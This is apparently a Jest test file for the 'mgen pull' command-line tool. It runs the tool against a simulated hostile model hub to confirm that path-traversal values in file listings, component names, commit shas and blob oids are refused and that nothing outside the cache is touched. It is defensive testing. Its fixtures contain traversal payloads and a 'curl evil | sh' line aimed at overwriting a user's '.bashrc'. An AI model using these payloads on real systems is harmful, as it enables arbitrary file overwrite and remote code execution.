// A hostile Hub must not make `mgen pull` write, link or delete anything outside the cache (issue 16, "Critical:
// writes outside the cache"). Each case runs the real CLI against the loopback hub with decoys planted where the
// traversal would land, snapshots the temp root outside the cache roots before and after, and expects exit 6, a
// one-line message naming the bad value, nothing changed outside and nothing written in the cache.
import {afterAll, beforeAll, beforeEach, describe, expect, it} from '@jest/globals';
import {existsSync, lstatSync, mkdirSync, mkdtempSync, readFileSync} from 'node:fs';
import {tmpdir} from 'node:os';
import {join} from 'node:path';
import Pull from '../../src/commands/pull.js';
import {diffusersRepo, safetensors, tinyUnet} from '../helpers/hub-fixtures.js';
import {commitOf, LoopbackHub, startHub} from '../helpers/loopback-hub.js';
import {changes, DEFAULT_DECOYS, plantDecoys, snapshotOutside, type FsSnapshot} from '../helpers/path-containment.js';
import {runCli} from '../helpers/sources-cli.js';

let hub: LoopbackHub;
let root: string;
let env: Record<string, string | undefined>;
let before: FsSnapshot;
const hubCache = () => join(root, 'hf', 'hub');
const cacheRoots = () => [hubCache(), join(root, 'mgen')];
const json = (o: unknown) => Buffer.from(JSON.stringify(o));

beforeAll(async () => {
  hub = await startHub(diffusersRepo('org/clean'));
  hub.addRepo({id: 'org/sibling', commit: commitOf('sibling'), files: [
    {path: 'model.safetensors', content: safetensors([['w', 'F32', [8]]])},
    {path: '../../../../victim.txt', content: Buffer.from('attacker content\n')},
    {path: '../../../../../home/.bashrc', content: Buffer.from('curl evil | sh\n')},
  ]});
  hub.addRepo({id: 'org/component', commit: commitOf('component'), files: [
    {path: 'model_index.json', content: json({_class_name: 'StableDiffusionPipeline', '../../../../victim-folder': ['diffusers', 'UNet2DConditionModel']})},
    {path: '../../../../victim-folder/config.json', content: json({_class_name: 'UNet2DConditionModel'})},
    {path: '../../../../victim-folder/diffusion_pytorch_model.safetensors', content: tinyUnet()},
  ]});
  hub.addRepo({id: 'org/component-name', commit: commitOf('component-name'), files: [
    {path: 'model_index.json', content: json({_class_name: 'StableDiffusionPipeline', unet: ['diffusers', 'UNet2DConditionModel'], '..': ['diffusers', 'AutoencoderKL']})},
    {path: 'unet/config.json', content: json({_class_name: 'UNet2DConditionModel'})},
    {path: 'unet/diffusion_pytorch_model.safetensors', content: tinyUnet()},
  ]});
  hub.addRepo({...diffusersRepo('org/sha'), apiSha: '../../..'});
  hub.addRepo({id: 'org/oid', commit: commitOf('oid'), files: [
    {path: 'model.safetensors', content: safetensors([['w', 'F32', [16]]]), lfs: false, oid: '../../../../victim-oid'},
  ]});
  hub.addRepo({id: 'org/lfs-oid', commit: commitOf('lfs-oid'), files: [
    {path: 'model.safetensors', content: safetensors([['w', 'F32', [16]]]), sha256: '../../../../victim-lfs'},
  ]});
});
afterAll(async () => hub.close());
beforeEach(() => {
  root = mkdtempSync(join(tmpdir(), 'mgen-hostile-hub-'));
  // The cache roots exist beforehand, so what a pull writes inside them leaves their parents' mtimes alone.
  for (const d of cacheRoots()) mkdirSync(d, {recursive: true});
  plantDecoys(root, {...DEFAULT_DECOYS, 'hf/victim.txt': 'decoy in HF_HOME\n', 'hf/victim-folder/config.json': '{"decoy": true}\n'});
  env = {
    HF_HOME: join(root, 'hf'), HF_HUB_CACHE: undefined, HUGGINGFACE_HUB_CACHE: undefined, XDG_CACHE_HOME: undefined, MGEN_HOME: join(root, 'mgen'),
    HF_ENDPOINT: hub.url, HF_TOKEN: undefined, HUGGING_FACE_HUB_TOKEN: undefined, HF_HUB_OFFLINE: undefined, MODEL_ID: undefined, MGEN_RETRY_BASE_MS: '5',
  };
  before = snapshotOutside(root, cacheRoots());
});

/** Runs a hostile pull and checks the common outcome: exit 6, one line naming `bad`, nothing changed or written. */
async function expectRefused(argv: string[], repo: string, bad: string): Promise<string> {
  const r = await runCli(Pull, argv, env);
  expect(changes(before, snapshotOutside(root, cacheRoots()))).toEqual([]);
  expect(r.code).toBe(6);
  const lines = r.stderr.trim().split('\n');
  expect(lines).toHaveLength(1);
  expect(lines[0]).toContain(JSON.stringify(bad));
  expect(r.stdout).toBe('');
  expect(existsSync(join(hubCache(), `models--${repo.replace('/', '--')}`))).toBe(false);
  expect(existsSync(join(hubCache(), '.locks'))).toBe(false);
  expect(readFileSync(join(root, 'home', '.bashrc'), 'utf8')).toBe(DEFAULT_DECOYS['home/.bashrc']);
  return lines[0]!;
}

describe('a hostile hub cannot write outside the cache', () => {
  it('control: a clean pull writes only inside the cache roots (the containment snapshot sees no change)', async () => {
    const r = await runCli(Pull, ['org/clean'], env);
    expect(r.code).toBe(0);
    expect(changes(before, snapshotOutside(root, cacheRoots()))).toEqual([]);
    expect(lstatSync(join(hubCache(), 'models--org--clean', 'snapshots', commitOf('org/clean'), 'model_index.json')).isSymbolicLink()).toBe(true);
  });

  it('a listing path ../../../../victim.txt (pulled with --all): exit 6 naming it; victim.txt and ~/.bashrc untouched', async () => {
    const line = await expectRefused(['org/sibling', '--all'], 'org/sibling', '../../../../victim.txt');
    expect(line).toMatch(/^mgen: error: org\/sibling: a file path in the listing: refused/);
    expect(readFileSync(join(root, 'hf', 'victim.txt'), 'utf8')).toBe('decoy in HF_HOME\n');
  });

  it('a model_index.json component named ../../../../victim-folder, reached by a default pull: exit 6, the folder untouched', async () => {
    await expectRefused(['org/component'], 'org/component', '../../../../victim-folder/config.json');
    expect(readFileSync(join(root, 'hf', 'victim-folder', 'config.json'), 'utf8')).toBe('{"decoy": true}\n');
  });

  it('a component name that is not one plain folder name (a clean listing): exit 6 before anything is written', async () => {
    await expectRefused(['org/component-name'], 'org/component-name', '..');
  });

  it('an API commit sha of ../../..: exit 6 before the listing is even asked for', async () => {
    const listed = hub.requestsTo(/\/tree\//).length;
    await expectRefused(['org/sha'], 'org/sha', '../../..');
    expect(hub.requestsTo(/\/tree\//).length).toBe(listed);
  });

  it('a git oid ../../../../victim-oid used as a blob name: exit 6, nothing written next to the cache', async () => {
    await expectRefused(['org/oid'], 'org/oid', '../../../../victim-oid');
  });

  it('an LFS oid that is not a sha256: exit 6', async () => {
    await expectRefused(['org/lfs-oid'], 'org/lfs-oid', '../../../../victim-lfs');
  });
});
